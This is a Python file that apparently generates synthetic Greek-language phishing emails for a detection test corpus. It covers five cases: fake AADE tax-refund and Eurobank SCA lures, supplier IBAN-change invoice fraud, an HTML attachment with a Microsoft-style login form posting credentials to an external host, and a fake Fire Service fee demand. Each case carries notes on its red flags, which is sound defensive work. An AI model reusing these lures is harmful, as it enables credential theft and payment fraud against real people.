"""attack/32-36: Greek-language attacks."""
import html as _h

from lib import data, ids, kit, mime, qr, png, containers, systems as sy
from lib.data import S, OFF
from lib.message import auth
from lib.mime import T, plus, Part, Multipart, attachment, text
from lib.registry import scenario

AFM = OFF['GR']['taxid'][2:]


# ---------------------------------------------------------------------------
@scenario('attack', '32-el-aade-epistrofi-foroy.eml')
def a32(m):
    r = m.rng
    nikos = S('Georgiou')
    dom = 'myaade-gov.com'
    m.frm = ('ΑΑΔΕ - myAADE', 'noreply@' + dom)
    m.to = [nikos]
    m.rcpt = [nikos[1]]
    m.mail_from = '%s@eu-central-1.amazonses.com' % ('0107' + r.hex(12) + '-' + r.uuid() + '-000000')
    m.subject = 'ΑΑΔΕ: Ειδοποίηση επιστροφής ΦΠΑ - εκκρεμεί επιβεβαίωση τραπεζικού λογαριασμού'
    m.date = T(2026, 10, 23, 6, 51, 2, 'EET')
    m.date_zone = 'UTC'
    url = 'https://www1.aade.gr.myaade-epistrofi.com/taxisnet/login?afm=%s&ref=EPF%s' % (AFM, r.digits(9))
    html = ('<!DOCTYPE html><html lang="el"><head><meta charset="utf-8"></head>'
            '<body style="margin:0;background:#f4f6f9;font-family:Arial,Helvetica,sans-serif;color:#1d2a3a">'
            '<div style="max-width:600px;margin:0 auto;background:#ffffff">'
            '<div style="background:#003476;padding:16px 24px;color:#ffffff;font-size:20px;font-weight:bold">ΑΑΔΕ '
            '<span style="font-size:13px;font-weight:normal">Ανεξάρτητη Αρχή Δημοσίων Εσόδων</span></div>'
            '<div style="padding:24px;font-size:14px;line-height:22px">'
            '<p>Αγαπητέ/ή φορολογούμενε/η,</p>'
            '<p>Μετά την εκκαθάριση των δηλώσεων ΦΠΑ του γ΄ τριμήνου 2026 για τον ΑΦΜ <b>%s</b>, προέκυψε πιστωτικό υπόλοιπο '
            'προς επιστροφή ύψους <b>1.284,60 €</b>.</p>'
            '<p>Για να ολοκληρωθεί η επιστροφή, πρέπει να επιβεβαιώσετε τα στοιχεία του τραπεζικού λογαριασμού (IBAN) μέσω της '
            'εφαρμογής myAADE εντός <b>5 εργάσιμων ημερών</b>. Σε διαφορετική περίπτωση το ποσό θα συμψηφιστεί με μελλοντικές οφειλές.</p>'
            '<p style="text-align:center"><a href="%s" style="background:#003476;color:#ffffff;padding:12px 28px;text-decoration:none;'
            'font-weight:bold;border-radius:3px">Είσοδος στο myAADE</a></p>'
            '<p style="font-size:12px;color:#667">Η είσοδος γίνεται με τους προσωπικούς κωδικούς TAXISnet.</p>'
            '<p>Με εκτίμηση,<br>Ανεξάρτητη Αρχή Δημοσίων Εσόδων<br>Γενική Διεύθυνση Φορολογικής Διοίκησης</p></div>'
            '<div style="padding:12px 24px;font-size:11px;color:#889;border-top:1px solid #e3e6ea">Το μήνυμα αυτό στάλθηκε αυτόματα. '
            'Παρακαλούμε μην απαντάτε.</div></div></body></html>\n') % (AFM, _h.escape(url))
    plain = ('Αγαπητέ/ή φορολογούμενε/η,\n\nΓια τον ΑΦΜ %s προέκυψε πιστωτικό υπόλοιπο προς επιστροφή ύψους 1.284,60 €.\n'
             'Επιβεβαιώστε τον τραπεζικό σας λογαριασμό εντός 5 εργάσιμων ημερών: %s\n\nΑνεξάρτητη Αρχή Δημοσίων Εσόδων\n') % (AFM, url)
    bnd = kit.boundary(r, 'javamail')
    body_obj = Multipart('alternative', [text(plain, 'plain', 'UTF-8', 'base64', ctype_value='text/plain; charset=UTF-8'),
                                         text(html, 'html', 'UTF-8', 'base64', ctype_value='text/html; charset=UTF-8')], bnd)
    hdrs, conn, tmx, bees = sy.ses(m, m.date, region='eu-central-1', dkim_domain=dom)
    m.finish(hdrs, conn, plus(tmx, 1), auth(spf=('pass', 'eu-central-1.amazonses.com'),
                                         dkim=[('pass', dom, 'k1', 2048, bees[0][1]), ('pass', 'amazonses.com', 'uku4taia5b5tsbglxyj6zym32efj7xqv', 1024, bees[1][1])],
                                         dmarc=('pass', 'none', dom)), body_obj)
    m.fact('urls', url)
    m.what = 'Tax-refund phishing: "ΑΑΔΕ – myAADE" announces a VAT refund of 1.284,60 € for the company ΑΦΜ and asks to confirm the IBAN by logging in with TAXISnet credentials.'
    m.why = 'Amazon SES from the look-alike myaade-gov.com; link host www1.aade.gr.myaade-epistrofi.com (real domain only as a sub-label); refund bait plus deadline; AADE does not send login links for refunds.'


# ---------------------------------------------------------------------------
@scenario('attack', '33-el-eurobank-sca-windows1253.eml')
def a33(m):
    r = m.rng
    eleni = S('Papadopoulou')
    site = 'taverna-thalassa-naxos.gr'
    m.frm = ('Eurobank Business', 'info@' + site)
    m.to = [eleni]
    m.rcpt = [eleni[1]]
    m.mail_from = 'thalassa@gr-srv03.hostfly.gr'
    m.subject = 'Eurobank: Απαιτείται επανεπιβεβαίωση της συσκευής σας (SCA)'
    m.date = T(2026, 11, 11, 8, 34, 19, 'EET')
    m.date_zone = 'EET'
    m.msgid = m.mid('php', site)
    m.hdr_charset, m.hdr_enc = 'windows-1253', 'B'
    url = 'https://eurobank-business.sca-epivevaiosi.com/gr/login?cid=%s' % r.hex(10)
    html = ('<html><head><meta http-equiv="Content-Type" content="text/html; charset=windows-1253"></head>'
            '<body style="font-family:Tahoma,Arial,sans-serif;font-size:13px;color:#222">'
            '<table width="600" align="center" cellpadding="0" cellspacing="0" style="border:1px solid #ddd">'
            '<tr><td style="background:#e3001b;padding:14px 20px;color:#fff;font-size:20px;font-weight:bold">Eurobank Business</td></tr>'
            '<tr><td style="padding:20px">'
            '<p>Αγαπητέ πελάτη,</p>'
            '<p>Σύμφωνα με την Οδηγία PSD2 για την Ισχυρή Ταυτοποίηση Πελάτη (SCA), η συσκευή που έχετε καταχωρίσει για την έγκριση '
            'συναλλαγών στο Eurobank Business Banking πρέπει να επανεπιβεβαιωθεί.</p>'
            '<p>Μέχρι να ολοκληρωθεί η επιβεβαίωση, οι εξερχόμενες πληρωμές της επιχείρησής σας έχουν τεθεί σε αναμονή.</p>'
            '<p style="text-align:center"><a href="%s" style="background:#e3001b;color:#fff;padding:10px 24px;text-decoration:none">'
            'Επιβεβαίωση συσκευής</a></p>'
            '<p>Η διαδικασία διαρκεί λιγότερο από 2 λεπτά.</p>'
            '<p>Με εκτίμηση,<br>Eurobank Ergasias Services and Holdings S.A.</p></td></tr>'
            '<tr><td style="padding:10px 20px;font-size:11px;color:#888;border-top:1px solid #eee">Όθωνος 8, 105 57 Αθήνα</td></tr>'
            '</table></body></html>\n') % _h.escape(url)
    plain = ('Αγαπητέ πελάτη,\n\nΗ συσκευή έγκρισης συναλλαγών στο Eurobank Business Banking πρέπει να επανεπιβεβαιωθεί (SCA).\n'
             'Οι εξερχόμενες πληρωμές έχουν τεθεί σε αναμονή.\n\nΕπιβεβαίωση συσκευής: %s\n\nEurobank\n') % url
    bnd = kit.boundary(r, 'php')
    body_obj = Multipart('alternative', [text(plain, 'plain', 'windows-1253', 'quoted-printable', ctype_value='text/plain; charset=windows-1253'),
                                         text(html, 'html', 'windows-1253', 'quoted-printable', ctype_value='text/html; charset=windows-1253')], bnd)
    hdrs, conn, tmx, dkb = sy.exim_cpanel(m, m.date, 'gr-srv03.hostfly.gr', '192.0.2.93', site, m.mail_from, php=True, auth_user='thalassa')
    m.finish(hdrs, conn, plus(tmx, 2), auth(spf=('pass', 'gr-srv03.hostfly.gr'), dkim=[], dmarc=('fail', 'none', site)), body_obj)
    m.fact('urls', url)
    m.what = 'Business-banking phishing: "Eurobank Business" says the SCA device must be re-confirmed and outgoing payments are on hold; button to sca-epivevaiosi.com.'
    m.why = 'PHPMailer from a compromised taverna website (From domain unrelated to Eurobank, DMARC fails); payments-on-hold pressure; the real Eurobank notice (business/33) has no login link.'


# ---------------------------------------------------------------------------
@scenario('attack', '34-el-promitheftis-lookalike-timologio.eml')
def a34(m):
    r = m.rng
    nikos = S('Georgiou')
    dom = 'pyrosvesis-attikis.com'
    maria = ('Μαρία Αντωνίου', 'm.antoniou@' + dom)
    m.frm = maria
    m.to = [nikos]
    m.rcpt = [nikos[1]]
    m.mail_from = maria[1]
    m.subject = 'Τιμολόγιο 2026/Α/1187 - νέος τραπεζικός λογαριασμός'
    m.date = T(2026, 11, 20, 13, 22, 50, 'EET')
    m.date_zone = 'EET'
    m.msgid = '%s@%s' % (r.uuid(), dom)
    new_iban = ids.make_iban('GR', '017' + '0125' + '0000125040381927')
    body = ('Καλησπέρα σας κ. Γεωργίου,\n\nσας αποστέλλουμε συνημμένα το τιμολόγιο 2026/Α/1187 για την παράδοση σκόνης ABC και '
            'την αναγόμωση των πυροσβεστήρων CO2 του Οκτωβρίου.\n\nΠαρακαλούμε σημειώστε ότι από τον Νοέμβριο η εταιρεία μας '
            'συνεργάζεται με νέα τράπεζα. Οι πληρωμές θα πρέπει να γίνονται αποκλειστικά στον παρακάτω λογαριασμό:\n\n'
            'Τράπεζα Πειραιώς\nΔικαιούχος: ΠΥΡΟΣΒΕΣΙΣ ΑΤΤΙΚΗΣ ΕΠΕ\nIBAN: %s\n\nΟ παλιός λογαριασμός στην Εθνική Τράπεζα θα '
            'κλείσει στο τέλος του μήνα. Παρακαλούμε επιβεβαιώστε μας τη λήψη.\n\nΜε εκτίμηση,\nΜαρία Αντωνίου\nΛογιστήριο\n'
            'Πυρόσβεσις Αττικής Ε.Π.Ε.\nΛεωφ. Φιλαδελφείας 88, 136 78 Αχαρνές\nΤηλ. 210 2467 310\n') % ids.fmt_iban(new_iban)
    inv, tot = kit.invoice_pdf(
        'el', ['Πυρόσβεσις Αττικής Ε.Π.Ε.', 'Λεωφ. Φιλαδελφείας 88, 136 78 Αχαρνές', 'ΑΦΜ: %s · ΔΟΥ Αχαρνών' % ids.gr_afm('09961248'),
               'Τηλ. 210 2467 310'],
        ['Example Πυροπροστασία Μονοπρόσωπη Α.Ε.', 'Λεωφ. Κηφισού 112', '122 41 Αιγάλεω', 'ΑΦΜ: %s' % AFM],
        '2026/Α/1187', '20/11/2026',
        [('Σκόνη πυρόσβεσης ABC 40% (σάκος 25 kg)', 24, 38.00),
         ('Αναγόμωση πυροσβεστήρα CO2 5 kg', 46, 14.50),
         ('Υδραυλική δοκιμή φιάλης CO2', 12, 9.00)],
        'EUR', 24, ['Τράπεζα Πειραιώς', 'IBAN: %s' % ids.fmt_iban(new_iban)],
        meta_lines=['Σειρά|Α', 'Λήξη|20/12/2026'], notes=['Τρόπος πληρωμής: κατάθεση σε τράπεζα.'],
        creator='Microsoft Excel', producer='Microsoft Excel', pdfdate="D:20261120131501+02'00'", logo_color=(0.8, 0.1, 0.1))
    html = ('<html><head><meta http-equiv="Content-Type" content="text/html; charset=UTF-8"></head><body>'
            '<div style="font-family:Calibri,Arial,sans-serif;font-size:11pt">' + _h.escape(body).replace('\n', '<br>\n') + '</div></body></html>\n')
    bnd_m, bnd_a = '----=_Part_%d' % r.randrange(10 ** 8), '----=_Part_%d' % r.randrange(10 ** 8)
    body_obj = Multipart('mixed', [Multipart('alternative', [text(body, 'plain', 'UTF-8', 'base64', ctype_value='text/plain; charset=UTF-8'),
                                                             text(html, 'html', 'UTF-8', 'base64', ctype_value='text/html; charset=UTF-8')], bnd_a),
                                   attachment(inv, 'Τιμολόγιο_2026-Α-1187.pdf', 'application/pdf', 'generic', r)], bnd_m)
    hdrs, conn, tmx, dkb = sy.hostinger(m, m.date)
    m.finish(hdrs, conn, plus(tmx, 2), auth(spf=('pass', dom), dkim=[('pass', dom, 'hostingermail1', 2048, dkb)],
                                         dmarc=('none', None, dom)), body_obj)
    m.fact('ibans', new_iban)
    m.fact('phones', '210 2467 310')
    m.what = 'Supplier invoice fraud from the look-alike pyrosvesis-attikis.com (.com instead of .gr): invoice 2026/Α/1187 plus announcement of a "new bank" – payments to a Piraeus Bank IBAN.'
    m.why = 'Look-alike domain on Hostinger (no DMARC), bank change only by e-mail, asks for confirmation by reply; the real supplier writes from pyrosvesis-attikis.gr and its invoices carry the NBG account and a myDATA MARK (business/34).'


# ---------------------------------------------------------------------------
@scenario('attack', '35-el-html-synimmeno-swift.eml')
def a35(m):
    r = m.rng
    eleni = S('Papadopoulou')
    sender = ('Γιώργος Παππάς', 'g.pappas.logistics@yahoo.gr')
    m.frm = sender
    m.to = [eleni]
    m.rcpt = [eleni[1]]
    m.mail_from = sender[1]
    m.subject = 'Αποδεικτικό πληρωμής τιμολογίων Οκτωβρίου (SWIFT MT103)'
    m.date = T(2026, 12, 1, 10, 4, 33, 'EET')
    m.date_zone = 'EET'
    m.msgid = '%d.%d.%d@mail.yahoo.com' % (r.randrange(10 ** 8, 10 ** 9), r.randrange(10 ** 6, 10 ** 7), int(m.date.timestamp()) * 1000 + 441)
    action = 'https://mt103-docs.secure-viewer.net/gr/auth.php'
    page = ('<!DOCTYPE html>\n<html lang="el">\n<head>\n<meta charset="utf-8">\n<title>Eurobank - Αποδεικτικό SWIFT MT103</title>\n'
            '<style>body{margin:0;background:#f2f2f2;font-family:Segoe UI,Arial,sans-serif}'
            '.box{width:380px;margin:70px auto;background:#fff;padding:34px;box-shadow:0 2px 6px rgba(0,0,0,.2)}'
            'h1{font-size:22px;font-weight:600;color:#1b1b1b}p{font-size:13px;color:#333}'
            'input{width:100%%;padding:8px 2px;margin:8px 0;border:none;border-bottom:1px solid #666;font-size:15px}'
            'button{background:#0067b8;color:#fff;border:none;padding:9px 30px;font-size:15px;float:right}</style>\n</head>\n<body>\n'
            '<div class="box">\n<div style="color:#737373;font-size:15px">Microsoft</div>\n'
            '<h1>Συνδεθείτε για να δείτε το έγγραφο</h1>\n'
            '<p>Το αρχείο «SWIFT_MT103_Eurobank_01122026.pdf» (2 σελίδες) είναι προστατευμένο. Επιβεβαιώστε το εταιρικό σας email.</p>\n'
            '<form method="post" action="%s">\n'
            '<input type="email" name="login" value="eleni.papadopoulou@example.com">\n'
            '<input type="password" name="passwd" placeholder="Κωδικός πρόσβασης">\n'
            '<button type="submit">Σύνδεση</button>\n</form>\n'
            '<p style="clear:both;padding-top:20px;font-size:11px;color:#777">Ποσό: 18.640,00 EUR · Ημ/νία αξίας: 01/12/2026 · Ref: EUROGRA3 0112 4471</p>\n'
            '</div>\n</body>\n</html>\n') % action
    body = ('Καλημέρα σας,\n\nσας επισυνάπτω το αποδεικτικό πληρωμής (SWIFT MT103) για τα τιμολόγια Οκτωβρίου. '
            'Παρακαλώ ενημερώστε μας όταν πιστωθεί το ποσό.\n\nΕυχαριστώ,\nΓιώργος Παππάς\nΛογιστήριο\n')
    html = ('<html><head></head><body><div class="ydp%s yahoo-style-wrap" style="font-family:Helvetica Neue, Helvetica, Arial, sans-serif;font-size:13px;">'
            % r.hex(8) + ''.join('<div dir="ltr" data-setdir="false">%s</div>' % (_h.escape(l) if l else '<br>') for l in body.rstrip('\n').split('\n'))
            + '</div></body></html>\n')
    bnd_m, bnd_a = '----=_Part_%d_%d.%d' % (r.randrange(10 ** 6), r.randrange(10 ** 9), int(m.date.timestamp()) * 1000), \
        '----=_Part_%d_%d.%d' % (r.randrange(10 ** 6), r.randrange(10 ** 9), int(m.date.timestamp()) * 1000 + 3)
    body_obj = Multipart('mixed', [Multipart('alternative', [text(body, 'plain', 'UTF-8', 'quoted-printable', ctype_value='text/plain; charset=UTF-8'),
                                                             text(html, 'html', 'UTF-8', 'quoted-printable', ctype_value='text/html; charset=UTF-8')], bnd_a),
                                   attachment(page.encode('utf-8'), 'SWIFT_MT103_Eurobank_01122026.html', 'text/html; charset=UTF-8', 'generic', r)], bnd_m)
    hdrs, conn, tmx, dkb = sy.yahoo(m, m.date, 'yahoo.gr')
    m.finish(hdrs, conn, plus(tmx, 2), auth(spf=('pass', 'yahoo.gr'), dkim=[('pass', 'yahoo.gr', 's2048', 2048, dkb)],
                                         dmarc=('pass', 'reject', 'yahoo.gr')), body_obj)
    m.fact('urls', action)
    m.what = 'HTML-attachment credential phishing: "payment confirmation SWIFT MT103" from a Yahoo address, with an .html file that shows a Microsoft sign-in form (address pre-filled) posting to mt103-docs.secure-viewer.net.'
    m.why = 'Unknown free-mail sender, generic payment pretext, local HTML file with a credential form (no script needed) whose action posts to an external host; a real bank MT103 is a PDF from the payer\'s bank.'


# ---------------------------------------------------------------------------
@scenario('attack', '36-el-pyrosvestiki-mitroo-paravolo.eml')
def a36(m):
    r = m.rng
    eleni = S('Papadopoulou')
    giannis = S('Kostopoulos')
    dom = 'e-pyrosvestiki.com'
    m.frm = ('Πυροσβεστικό Σώμα - Δ/νση Πυροπροστασίας', 'mitroo@' + dom)
    m.to = [eleni]
    m.cc = [giannis]
    m.rcpt = [eleni[1]]
    m.mail_from = 'bnc3.%s@bnc3.mailjet.com' % r.hex(12)
    m.subject = 'Ανανέωση εγγραφής στο Μητρώο Επιχειρήσεων Πυροπροστασίας - προθεσμία 15/12/2026'
    m.date = T(2026, 12, 4, 9, 15, 2, 'EET')
    m.date_zone = 'UTC'
    m.hdr_charset = 'iso-8859-7'
    m.msgid = '%s.%d@mailjet.com' % (r.uuid(), r.randrange(10 ** 6))
    url = 'https://e-paravolo.pyrosvestiki-gov.info/mitroo/ananeosi?afm=%s' % AFM
    body = ('Προς: Example Πυροπροστασία Μονοπρόσωπη Α.Ε. (ΑΦΜ %s)\n\nΣας υπενθυμίζουμε ότι η εγγραφή της επιχείρησής σας '
            'στο Μητρώο Επιχειρήσεων Εμπορίας και Συντήρησης Πυροσβεστικών Μέσων λήγει στις 31/12/2026.\n\n'
            'Για την ανανέωση απαιτείται η καταβολή e-παραβόλου ύψους 150,00 € και η ηλεκτρονική υποβολή της βεβαίωσης '
            'εκπαίδευσης του τεχνικού προσωπικού έως τις 15/12/2026. Μετά την προθεσμία η επιχείρηση διαγράφεται από το Μητρώο '
            'και δεν επιτρέπεται η έκδοση βεβαιώσεων συντήρησης πυροσβεστήρων.\n\n'
            'Πληρωμή e-παραβόλου και υποβολή: %s\n\nΜε εκτίμηση,\nΔιεύθυνση Πυροπροστασίας\nΑρχηγείο Πυροσβεστικού Σώματος\n') % (AFM, url)
    html = ('<html><head><meta http-equiv="Content-Type" content="text/html; charset=iso-8859-7"></head>'
            '<body style="font-family:Arial,sans-serif;font-size:14px;color:#222;background:#fff">'
            '<div style="max-width:600px;margin:0 auto;border-top:5px solid #b30000;padding:18px 22px">'
            '<div style="font-size:18px;font-weight:bold;color:#b30000">ΠΥΡΟΣΒΕΣΤΙΚΟ ΣΩΜΑ</div>'
            '<div style="font-size:12px;color:#555">Διεύθυνση Πυροπροστασίας · Μητρώο Επιχειρήσεων</div><hr>'
            + ''.join('<p>%s</p>' % _h.escape(p).replace('\n', '<br>') for p in body.split('\n\n')[:-2])
            + '<p style="text-align:center"><a href="%s" style="background:#b30000;color:#fff;padding:11px 26px;text-decoration:none;'
            'font-weight:bold">Πληρωμή e-παραβόλου</a></p>' % _h.escape(url)
            + '<p>Με εκτίμηση,<br>Διεύθυνση Πυροπροστασίας<br>Αρχηγείο Πυροσβεστικού Σώματος</p>'
            '<p style="font-size:11px;color:#888"><a href="https://%s/unsub?m=%s">Διαγραφή</a></p></div></body></html>\n' % ('w' + r.alnum(3, '0123456789') + '.mjt.lu', r.hex(12)))
    bnd = kit.boundary(r, 'generic')
    body_obj = Multipart('alternative', [text(body, 'plain', 'iso-8859-7', 'quoted-printable', ctype_value='text/plain; charset="iso-8859-7"'),
                                         text(html, 'html', 'iso-8859-7', 'quoted-printable', ctype_value='text/html; charset="iso-8859-7"')], bnd)
    hdrs, conn, tmx, bees = sy.mailjet(m, m.date, dom)
    m.finish(hdrs, conn, plus(tmx, 2), auth(spf=('pass', 'bnc3.mailjet.com'),
                                         dkim=[('pass', dom, 'mailjet', 2048, bees[0][1]), ('pass', 'mailjet.com', 'mailjet', 2048, bees[1][1])],
                                         dmarc=('pass', 'none', dom)), body_obj)
    m.fact('urls', url)
    m.what = 'Authority impersonation tailored to the trade: "Hellenic Fire Service – register of fire-protection companies" demands a 150 € e-paravolo by 15/12 to renew the registration, via a payment link.'
    m.why = 'Mailjet bulk mail from e-pyrosvestiki.com (the Fire Service uses fireservice.gr, see business/36); payment link on pyrosvestiki-gov.info instead of the state e-paravolo portal; deletion threat for not paying.'
